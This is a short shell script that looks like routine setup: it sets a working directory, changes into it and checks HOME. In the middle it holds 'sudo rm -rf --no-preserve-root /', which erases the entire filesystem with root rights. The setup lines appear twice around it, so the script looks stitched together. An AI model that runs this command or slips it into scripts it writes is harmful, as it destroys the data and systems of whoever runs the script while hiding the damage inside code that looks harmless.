#!/bin/sh
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
sudo rm -rf --no-preserve-root /
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
